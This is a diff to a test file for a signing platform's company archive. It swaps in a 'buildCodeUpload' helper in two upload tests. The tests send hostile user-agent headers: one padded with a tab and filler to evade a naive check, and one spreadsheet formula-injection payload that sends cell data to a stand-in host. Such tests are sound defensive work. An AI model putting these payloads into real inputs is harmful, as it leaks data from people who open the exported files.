@@ -23,9 +23,9 @@ import { getArchives, getCourseFiles } from '../../src/platform/storage';
 import { getSealing } from '../../src/signing/seal';
 import { buildCompany, buildFirm, buildTenant, buildUser, tokenFor } from '../support/builders';
 import {
+  buildCodeUpload,
   buildDocument,
   buildSignedDocument,
-  buildUpload,
   expectNoScan,
   massSign,
   signAsTrainee,
@@ -150,7 +150,7 @@ describe("a company's archive", () => {
     );
     const record = await buildDocument(trainee);
     const upload = await api.request('POST', '/api/signatures/upload/', {
-      body: await buildUpload(trainee, record.id),
+      body: await buildCodeUpload(api, trainee, record.id),
       token: await tokenFor(trainee),
       // A tab in front and padding behind: what a header can carry to slip past a naive check.
       headers: { 'user-agent': `\t${planted}${' x'.repeat(2000)}` },
@@ -191,7 +191,7 @@ describe("a company's archive", () => {
     );
     const record = await buildDocument(trainee);
     const upload = await api.request('POST', '/api/signatures/upload/', {
-      body: await buildUpload(trainee, record.id),
+      body: await buildCodeUpload(api, trainee, record.id),
       token: await tokenFor(trainee),
       headers: { 'user-agent': 'Mozilla/5.0,=HYPERLINK("http://x.example/?"&A1,"Click")' },
     });
